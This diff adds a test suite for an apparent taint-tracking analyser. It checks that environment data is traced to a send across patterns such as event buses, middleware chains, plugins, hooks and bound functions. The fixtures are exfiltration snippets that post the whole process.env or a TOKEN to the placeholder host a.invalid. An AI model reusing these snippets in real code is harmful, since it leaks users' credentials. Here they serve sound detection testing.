@@ -1,0 +1,82 @@
+import assert from 'node:assert/strict';
+import { describe, it } from 'node:test';
+
+import { flowLines } from '../../test/behave.ts';
+
+const SENT = 'process.env → fetch as content';
+
+/** What every case begins with: something that is read, and a way to send it. */
+const PRELUDE = `const read = () => JSON.stringify(process.env); const send = x => fetch('https://a.invalid', { method: 'POST', body: x });`;
+
+/** Ways by which code hands on data, each in one file. */
+const CARRIERS: Readonly<Record<string, string>> = {
+  'objects that are handed to the one that uses them': `
+    class Env { read() { return read(); } } class Sink { send(x) { send(x); } }
+    class App { constructor(env, sink) { this.env = env; this.sink = sink; } run() { this.sink.send(this.env.read()); } }
+    new App(new Env(), new Sink()).run();`,
+  'the same in an object of settings': `
+    class Env { read() { return read(); } } class Sink { send(x) { send(x); } }
+    class App { constructor({ env, sink }) { this.env = env; this.sink = sink; } run() { this.sink.send(this.env.read()); } }
+    new App({ env: new Env(), sink: new Sink() }).run();`,
+  'a container of what makes things': `
+    class Box { constructor() { this.made = {}; this.makers = {}; } put(k, f) { this.makers[k] = f; } get(k) { return this.made[k] || (this.made[k] = this.makers[k](this)); } }
+    const box = new Box(); box.put('env', () => read()); box.put('send', () => x => send(x)); box.get('send')(box.get('env'));`,
+  'listeners that are kept by name': `
+    const heard = {}; const on = (k, f) => { (heard[k] = heard[k] || []).push(f); }; const tell = (k, v) => { (heard[k] || []).forEach(f => f(v)); };
+    on('x', v => send(v)); tell('x', read());`,
+  'listeners in a private set': `
+    class Bus { #all = new Set(); sub(f) { this.#all.add(f); } pub(v) { this.#all.forEach(f => f(v)); } }
+    const bus = new Bus(); bus.sub(v => send(v)); bus.pub(read());`,
+  'a chain of steps that call the next one': `
+    const steps = []; const use = f => steps.push(f); use((c, next) => { c.data = read(); next(); }); use(c => { send(c.data); });
+    const run = c => { let at = 0; const next = () => { const step = steps[at++]; step && step(c, next); }; next(); }; run({});`,
+  'steps that are composed': `
+    const compose = steps => c => { const go = at => { const step = steps[at]; return step ? step(c, () => go(at + 1)) : 0; }; return go(0); };
+    compose([(c, next) => { c.data = read(); next(); }, c => { send(c.data); }])({});`,
+  'a list of steps that is counted through': `const steps = [() => read(), x => send(x)]; let v, at = 0; while (at < steps.length) { v = steps[at](v); at++; }`,
+  'plugins that are registered': `
+    const plugins = []; const register = p => plugins.push(p); register({ name: 'x', apply(c) { send(c.data); } });
+    plugins.forEach(p => p.apply({ data: read() }));`,
+  'taps of a hook': `
+    class Hook { constructor() { this.taps = []; } tap(name, run) { this.taps.push({ name, run }); } call(x) { for (const { run } of this.taps) run(x); } }
+    const hook = new Hook(); hook.tap('a', x => send(x)); hook.call(read());`,
+  'a member of the object that a method is of': `const job = { run() { send(this.data); }, data: read() }; job.run();`,
+  'a member that such an object is given later': `const job = { run() { send(this.data); } }; job.data = read(); job.run();`,
+  'a method of an object that is bound': `const job = { run() { send(this.data); }, data: read() }; setTimeout(job.run.bind(job), 1);`,
+  'an argument that is bound': `function go(x) { send(x); } setTimeout(go.bind(null, read()), 1);`,
+  'an argument that is bound to a function without a name': `queueMicrotask((x => send(x)).bind(null, read()));`,
+  'an argument that the program starts itself with': `
+    const cp = require('child_process'); if (process.argv[2]) send(process.argv[2]); else cp.spawn(process.execPath, [__filename, process.env.TOKEN]);`,
+  'classes that a module of a bundle offers by name': `
+    load({ 1: [function (require, module, exports) { class Sink { constructor(x) { this.x = x; } go() { send(this.x); } } exports.Sink = Sink; }, {}],
+      2: [function (require, module, exports) { const s = require('./s'); new s.Sink(read()).go(); }, { './s': 1 }] });`,
+};
+
+describe('data on its way through code', () => {
+  for (const [how, code] of Object.entries(CARRIERS))
+    it(`is followed through ${how}`, () => {
+      assert.ok(flowLines({ 'index.js': `${PRELUDE}\n${code}` }).some(line => /process\.env(\.TOKEN)? → fetch as content/.test(line)));
+    });
+
+  it('is followed through promises that hand on what they open', () => {
+    const code = `require('amqplib').connect('amqp://a.invalid').then(c => c.createChannel()).then(ch => ch.sendToQueue('q', process.env.TOKEN));`;
+    assert.deepEqual(flowLines({ 'index.js': code }), ['process.env.TOKEN → amqplib.connect().createChannel().sendToQueue as content']);
+  });
+
+  it('is not what stands in a file of which only the name is known', () => {
+    const code = `const fs = require('fs'); fetch('https://a.invalid/x').then(r => r.text()).then(name => eval(fs.readFileSync(name, 'utf8')));`;
+    const lines = flowLines({ 'index.js': code });
+    assert.ok(lines.includes('fs.readFileSync → eval as content'));
+    assert.ok(!lines.some(line => line.startsWith('fetch') && line.includes('→ eval')));
+  });
+
+  it('does not come out of a list of another name', () => {
+    const code = `${PRELUDE} const mine = [], others = []; mine.push(x => send(x)); others.push(x => x); others.forEach(f => f(read()));`;
+    assert.ok(!flowLines({ 'index.js': code }).includes(SENT));
+  });
+
+  it('does not stay where an argument is bound before it', () => {
+    const code = `${PRELUDE} const go = (fixed, data) => send(fixed); setTimeout(go.bind(null, 'x'), 1, read());`;
+    assert.ok(!flowLines({ 'index.js': code }).includes(SENT));
+  });
+});
